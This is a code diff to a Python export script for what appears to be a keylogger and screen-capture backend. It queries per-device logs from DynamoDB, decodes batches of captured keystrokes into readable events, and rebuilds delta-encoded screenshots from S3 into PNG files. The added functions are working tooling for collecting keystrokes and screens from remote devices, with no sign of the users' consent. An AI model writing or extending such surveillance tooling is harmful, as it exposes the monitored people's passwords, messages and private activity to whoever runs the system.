@@ -4,17 +4,23 @@ Export Device Data
 Exports device data from AWS to JSON files for backup, migration, or bulk import
 """
 
-import boto3
 import json
 import os
 from datetime import datetime
 from pathlib import Path
 from config import Config
+from aws_clients import AwsClientFactory
+from boto3.dynamodb.conditions import Attr, Key
+from screen_frames import reconstruct_frame
+from keylog_codec import decode_batch, is_encoded
 import logging
 
 logging.basicConfig(level=logging.INFO)
 logger = logging.getLogger('DataExporter')
 
+# Logs table GSI over device_id + timestamp (see setup_log_index.py)
+DEVICE_INDEX = 'device-time-index'
+
 
 class DeviceDataExporter:
     """Export device data from AWS to local files"""
@@ -22,24 +28,22 @@ class DeviceDataExporter:
     def __init__(self, config: Config):
         self.config = config
         
-        # AWS clients
-        self.s3_client = boto3.client(
-            's3',
-            aws_access_key_id=config.AWS_ACCESS_KEY,
-            aws_secret_access_key=config.AWS_SECRET_KEY,
-            region_name=config.AWS_REGION
-        )
-        self.dynamodb = boto3.resource(
-            'dynamodb',
-            aws_access_key_id=config.AWS_ACCESS_KEY,
-            aws_secret_access_key=config.AWS_SECRET_KEY,
-            region_name=config.AWS_REGION
-        )
-        
-        self.devices_table = self.dynamodb.Table(config.DYNAMODB_DEVICES_TABLE)
-        self.logs_table = self.dynamodb.Table(config.DYNAMODB_LOGS_TABLE)
+        # AWS clients (created on first use)
+        self.aws = AwsClientFactory(config)
+    
+    @property
+    def s3_client(self):
+        return self.aws.client('s3')
+    
+    @property
+    def devices_table(self):
+        return self.aws.table(self.config.DYNAMODB_DEVICES_TABLE)
+    
+    @property
+    def logs_table(self):
+        return self.aws.table(self.config.DYNAMODB_LOGS_TABLE)
     
-    def export_all_devices(self, output_dir='./exports'):
+    def export_all_devices(self, output_dir='./exports', frames=False):
         """Export all devices to individual JSON files"""
         output_path = Path(output_dir)
         output_path.mkdir(exist_ok=True)
@@ -55,7 +59,7 @@ class DeviceDataExporter:
             
             for device in devices:
                 device_id = device.get('device_id')
-                self.export_device(device_id, output_dir)
+                self.export_device(device_id, output_dir, frames=frames)
             
             # Create index file
             self._create_index(devices, output_dir)
@@ -67,7 +71,7 @@ class DeviceDataExporter:
             logger.error(f"Error exporting devices: {e}")
             return 0
     
-    def export_device(self, device_id: str, output_dir='./exports'):
+    def export_device(self, device_id: str, output_dir='./exports', frames=False):
         """Export single device data to JSON file"""
         output_path = Path(output_dir)
         output_path.mkdir(exist_ok=True)
@@ -80,11 +84,12 @@ class DeviceDataExporter:
             device_data = device_response.get('Item', {})
             
             # Get device logs
-            logs_response = self.logs_table.scan(
-                FilterExpression='device_id = :device_id',
-                ExpressionAttributeValues={':device_id': device_id}
-            )
-            logs = logs_response.get('Items', [])
+            logs = self.query_device_logs(device_id)
+            
+            # Expand columnar keylog batches into readable events
+            for log in logs:
+                if log.get('type') == 'keylog' and is_encoded(log.get('data')):
+                    log['events'] = decode_batch(log['data'])
             
             # Get screenshots from S3
             screenshots = self._get_device_screenshots(device_id)
@@ -109,9 +114,85 @@ class DeviceDataExporter:
             
             logger.info(f"✅ Exported {device_id}: {len(logs)} logs, {len(screenshots)} screenshots")
             
+            if frames:
+                self.export_frames(device_id, logs, output_dir)
+            
         except Exception as e:
             logger.error(f"Error exporting device {device_id}: {e}")
     
+    def query_device_logs(self, device_id: str, types=None, since=None, until=None):
+        """
+        All logs of one device, newest first, read from the device-time-index
+        GSI (the same index the dashboard API uses for ?device_id=); types and
+        the inclusive since/until timestamps narrow it down
+        """
+        condition = Key('device_id').eq(device_id)
+        if since and until:
+            condition &= Key('timestamp').between(since, until)
+        elif since:
+            condition &= Key('timestamp').gte(since)
+        elif until:
+            condition &= Key('timestamp').lte(until)
+        
+        kwargs = {
+            'IndexName': DEVICE_INDEX,
+            'KeyConditionExpression': condition,
+            'ScanIndexForward': False
+        }
+        if types:
+            kwargs['FilterExpression'] = Attr('type').is_in(list(types))
+        
+        logs = []
+        while True:
+            response = self.logs_table.query(**kwargs)
+            logs.extend(response.get('Items', []))
+            if 'LastEvaluatedKey' not in response:
+                return logs
+            kwargs['ExclusiveStartKey'] = response['LastEvaluatedKey']
+    
+    def rebuild_frame(self, delta_log: dict, keyframe_cache=None):
+        """Rebuild the full frame of a screenshot_delta log item from its keyframe + delta"""
+        data = delta_log['data']
+        manifest = json.loads(data) if isinstance(data, str) else data
+        
+        keyframe_key = manifest['keyframe_s3_key']
+        if keyframe_cache is not None and keyframe_key in keyframe_cache:
+            keyframe_bytes = keyframe_cache[keyframe_key]
+        else:
+            keyframe_bytes = self._get_object(keyframe_key)
+            if keyframe_cache is not None:
+                keyframe_cache[keyframe_key] = keyframe_bytes
+        
+        delta_bytes = self._get_object(manifest['s3_key'])
+        return reconstruct_frame(keyframe_bytes, delta_bytes, manifest)
+    
+    def export_frames(self, device_id: str, logs: list, output_dir='./exports'):
+        """Rebuild every delta-encoded screenshot of a device as a PNG file"""
+        frames_path = Path(output_dir) / f"{device_id}_frames"
+        frames_path.mkdir(parents=True, exist_ok=True)
+        
+        deltas = [log for log in logs if log.get('type') == 'screenshot_delta']
+        keyframe_cache = {}
+        rebuilt = 0
+        
+        for log in sorted(deltas, key=lambda l: l.get('timestamp', '')):
+            try:
+                frame = self.rebuild_frame(log, keyframe_cache)
+                data = json.loads(log['data']) if isinstance(log['data'], str) else log['data']
+                filename = Path(data['filename']).with_suffix('.png').name
+                frame.save(frames_path / filename, 'PNG')
+                rebuilt += 1
+            except Exception as e:
+                logger.error(f"Error rebuilding frame {log.get('log_id')}: {e}")
+        
+        logger.info(f"✅ Rebuilt {rebuilt}/{len(deltas)} delta frames for {device_id} in {frames_path}")
+        return rebuilt
+    
+    def _get_object(self, key: str) -> bytes:
+        """Download an object from the data bucket"""
+        response = self.s3_client.get_object(Bucket=self.config.S3_BUCKET, Key=key)
+        return response['Body'].read()
+    
     def _get_device_screenshots(self, device_id: str):
         """Get list of screenshots for a device from S3"""
         try:
@@ -169,6 +250,8 @@ def main():
     parser.add_argument('--device-id', help='Export specific device ID')
     parser.add_argument('--output', default='./exports', help='Output directory')
     parser.add_argument('--all', action='store_true', help='Export all devices')
+    parser.add_argument('--frames', action='store_true',
+                        help='Rebuild delta-encoded screenshots from keyframe + delta')
     
     args = parser.parse_args()
     
@@ -180,16 +263,17 @@ def main():
     exporter = DeviceDataExporter(config)
     
     if args.all:
-        count = exporter.export_all_devices(args.output)
+        count = exporter.export_all_devices(args.output, frames=args.frames)
         print(f"\n✅ Exported {count} devices to {args.output}/")
     elif args.device_id:
-        exporter.export_device(args.device_id, args.output)
+        exporter.export_device(args.device_id, args.output, frames=args.frames)
         print(f"\n✅ Exported device {args.device_id} to {args.output}/")
     else:
         print("Usage:")
         print("  Export all devices:     python3 export_data.py --all")
         print("  Export specific device: python3 export_data.py --device-id device-abc123")
         print("  Custom output dir:      python3 export_data.py --all --output /path/to/dir")
+        print("  Rebuild delta frames:   python3 export_data.py --device-id device-abc123 --frames")
 
 
 if __name__ == '__main__':